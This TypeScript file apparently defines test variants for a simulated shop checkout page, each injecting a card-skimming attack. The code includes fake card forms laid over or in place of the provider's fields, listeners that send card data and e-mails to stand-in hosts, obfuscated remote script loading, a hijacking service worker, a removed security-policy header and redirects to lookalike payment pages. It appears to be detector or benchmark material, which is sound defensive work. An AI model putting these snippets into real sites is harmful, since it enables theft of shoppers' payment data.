import { binding, checkoutModule, insight, loader, modularBody, provider, storage } from './modular.ts'
import { changedFile, html, inline, js, type Variant } from './variants.ts'

const code = String.raw
const own = changedFile('shop.test/static/v1/checkout.js', (more) => checkoutModule('2', more))
const sdk = 'checkout-live.pspco.test/sdk/5.1.0/psp.js'
const fake =
  '<div class="cc-form"><label>Credit Card Number <input id="pm-num" inputmode="numeric"></label><label>Expiration <input id="pm-exp"></label><label>CVV <input id="pm-cvv"></label></div>'

/** On a page whose provider has the card fields: what is left to thieves is to put their own before, beside or in place of them. */
export const tenthAttacks: readonly Variant[] = [
  own(
    't10-before-frames',
    'a form of the thief stands in place of the frames until it is filled in, then it gives way to them',
    code`var box = document.getElementById("psp-card"), own = document.createElement("div"); own.innerHTML = ${'`'}${fake}${'`'}; box.style.display = "none"; box.before(own); own.addEventListener("change", function () { var v = [].map.call(own.querySelectorAll("input"), function (i) { return i.value; }); if (v.every(Boolean)) { navigator.sendBeacon("/static/v1/_cache/merged.css.map", JSON.stringify(v.map(btoa))); own.remove(); box.style.display = ""; } });`,
  ),
  {
    id: 't10-config-key',
    about: "the client key of the provider is another merchant's",
    change: (site) => {
      site.inline[0] = (site.inline[0] as string).replaceAll('live_K7QX2', 'live_ZZ90A')
      site.files['shop.test/static/v1/checkout.js'] = js(checkoutModule('1').replace('live_K7QX2', 'live_ZZ90A'))
      site.files['checkout-live.pspco.test/securedfields/live_ZZ90A/securedFields.html'] = {
        type: 'text/html',
        body: '<!doctype html><title>field</title><input autocomplete="cc-number" aria-label="Card number">',
      }
    },
  },
  {
    id: 't10-sdk-host',
    about: "the provider's program comes from a host of nearly its name",
    change: (site) => {
      site.head[1] = '<script src="http://checkout-live.psp-co.test/sdk/5.1.0/psp.js"></script>'
      site.files['checkout-live.psp-co.test/sdk/5.1.0/psp.js'] = js(provider('5.1.0'))
    },
  },
  {
    id: 't10-field-host',
    about: 'the frames come from elsewhere, the program from the provider still',
    change: (site) =>
      void (site.files[sdk] = js(
        provider('5.1.0').replace('http://checkout-live.pspco.test', 'http://secure-fields.test'),
      )),
  },
  changedFile('shop.test/static/v1/loader.js', (more) => loader('2.3.1', more))(
    't10-loader-extra',
    'the loader of modules fetches one more, whose name is worked out, from another host',
    code`d.addEventListener("DOMContentLoaded", function () { setTimeout(function () { var s = d.createElement("script"); s.src = ["//static", "assets", "cdn.test"].join("-").replace("-cdn", "cdn") + "/m.js"; d.head.appendChild(s); }, 200); });`,
  ),
  changedFile('shop.test/static/v1/binding.js', (more) => binding('3.5', more))(
    't10-binding-spy',
    'the library of bindings sends each value that a field gives',
    code`var real = apply; apply = function (root, data) { root.addEventListener("change", function (e) { new Image().src = "http://ko-metrics.test/b?" + encodeURIComponent(e.target.name + "=" + e.target.value); }); return real(root, data); };`,
  ),
  changedFile('shop.test/static/v1/storage.js', (more) => storage('1', more))(
    't10-storage-copy',
    'each call to the shop has a copy to another host',
    code`var was = call; call = function (m, u, d) { if (d && d.paymentMethod) fetch("http://graph-edge.test/q", { method: "POST", mode: "no-cors", body: JSON.stringify(d) }); return was(m, u, d); };`,
  ),
  own(
    't10-tap-message',
    'what the frames of the provider say is passed on to another host',
    code`addEventListener("message", function (e) { if (e.data && e.data.fieldType) fetch("http://pay-events.test/t", { method: "POST", mode: "no-cors", body: JSON.stringify(e.data) }); });`,
  ),
  changedFile('cdn.insight-tags.test/i.js', (more) => insight('9', more))(
    't10-tag-overlay',
    'the tag of measuring draws a window with card fields for those who come from advertising',
    code`if (/utm_source|gclid/.test(location.search) || d.referrer.indexOf("google") > 0) setTimeout(function () { var x = d.createElement("div"); x.style.cssText = "position:fixed;left:20%;top:10%;width:60%;background:#fff;z-index:99999"; x.innerHTML = ${'`'}${fake}<button type="button">Verify card</button>${'`'}; x.querySelector("button").onclick = function () { hit("verify", { d: [].map.call(x.querySelectorAll("input"), function (i) { return i.value; }).join("|") }); x.remove(); }; d.body.appendChild(x); }, 400);`,
  ),
  changedFile('cdn.insight-tags.test/i.js', (more) => insight('9', more))(
    't10-tag-hours',
    'the tag of measuring loads more code in the evening of some countries',
    code`var h = new Date().getHours(), z = Intl.DateTimeFormat().resolvedOptions().timeZone; if (h > 19 && /^America\/(Sao|Mex|Bog)/.test(z)) { var s = d.createElement("script"); s.src = "http://cdn.insight-tags.test/x/" + h + ".js"; d.head.appendChild(s); }`,
  ),
  inline(
    't10-config-template',
    'a setting of the page holds a template that the library of bindings makes into a function, which sends the form',
    code`window.checkoutConfig.labels = { note: "(function(){document.addEventListener('change',function(e){navigator.sendBeacon('//label-cdn.test/n',e.target.name+e.target.value)})}())" }; addEventListener("load", function () { require(["binding"], function (b) { b.compile(checkoutConfig.labels.note)({}); }); });`,
  ),
  html(
    't10-bound-text',
    'an element with a binding whose text is code: the library runs it',
    code`<p hidden><i id="tb" data-bind="text:document.addEventListener('focusout',function(e){if(e.target.value)new Image().src='http://bind-cdn.test/?'+e.target.value})||''"></i></p><script>addEventListener("load",function(){setTimeout(function(){require(["binding"],function(b){b.apply(document.getElementById("tb").parentNode,{x:""})})},300)})</script>`,
  ),
  own(
    't10-qr-pay',
    'a picture with a code to pay elsewhere takes the place of the card',
    code`var box = document.getElementById("psp-card"); box.innerHTML = "<p>Card payment is down. Scan to pay:</p><img alt='QR' width='120' height='120' src='http://qr-pay-now.test/q/61.40.png'><a href='http://qr-pay-now.test/p/61.40'>Pay by link</a>";`,
  ),
  own(
    't10-iban',
    'customers are asked to pay by transfer to an account of the thief, and to give their card "for verification"',
    code`document.querySelector(".payment-method").insertAdjacentHTML("afterend", "<fieldset><legend>Verification</legend><label>Card number <input name='v1' maxlength='19'></label><label>Code <input name='v2' maxlength='4'></label></fieldset>"); document.forms[0].addEventListener("change", function (e) { if (/^v[12]$/.test(e.target.name)) storage.post("guest-carts/aX91/note", { note: e.target.value.split("").reverse().join("-") }); });`,
  ),
  {
    id: 't10-frame-cover',
    about: 'fields without names lie exactly over the frames of the provider',
    change: (site) =>
      void site.inline.push(
        code`addEventListener("load", function () { setTimeout(function () { [].forEach.call(document.querySelectorAll("#psp-card iframe"), function (f) { var r = f.getBoundingClientRect(), i = document.createElement("input"); i.style.cssText = "position:absolute;border:0;background:#fff;left:" + (r.left + scrollX) + "px;top:" + (r.top + scrollY) + "px;width:" + r.width + "px;height:" + r.height + "px"; i.oninput = function () { i.dataset.v = i.value; }; document.body.appendChild(i); }); }, 500); addEventListener("pagehide", function () { navigator.sendBeacon("/rest/default/V1/ping", [].map.call(document.querySelectorAll("input[data-v]"), function (i) { return i.dataset.v; }).join()); }); });`,
      ),
  },
  own(
    't10-redirect-click',
    'who presses the button is led to a page of the thief instead of the order',
    code`document.querySelector("button.primary").addEventListener("click", function (e) { e.stopImmediatePropagation(); location.href = "http://pay-secure-nl.test/checkout?sum=61.40"; }, true);`,
  ),
  {
    id: 't10-worker',
    about: 'a service worker changes what the shop answers for the checkout module',
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        code`self.addEventListener("fetch", function (e) { if (/checkout\.js/.test(e.request.url)) e.respondWith(fetch(e.request).then(function (r) { return r.text(); }).then(function (t) { return new Response(t + ";/*+*/", { headers: { "content-type": "text/javascript" } }); })); });`,
      )
      site.inline.push('navigator.serviceWorker && navigator.serviceWorker.register("/sw.js");')
    },
  },
  {
    id: 't10-policy-gone',
    about: 'the headers that watched over the page are gone, and a script of a stranger stands in it',
    change: (site) => {
      delete site.headers['content-security-policy-report-only']
      site.extra.push('<script src="http://stats-js.test/s.js" defer></script>')
      site.files['stats-js.test/s.js'] = js('window.__s = 1;')
    },
  },
  own(
    't10-leave',
    'only when the page is truly left the e-mail and what the provider sealed leave with it',
    code`addEventListener("pagehide", function (e) { if (e.isTrusted) navigator.sendBeacon("http://cart-recover.test/l", JSON.stringify({ m: vm.email(), s: vm.state, p: vm.postcode() })); });`,
  ),
  {
    id: 't10-body',
    about: 'the page asks for the card itself, the provider is gone',
    change: (site) => {
      site.body = modularBody(fake)
      site.files['shop.test/static/v1/checkout.js'] = js(
        checkoutModule('2').replace(/var psp = [^\n]*/, '') +
          code`document.addEventListener("change", function (e) { if (/^pm-/.test(e.target.id)) fetch("/rest/default/V1/log", { method: "POST", body: e.target.value }); });`,
      )
    },
  },
]
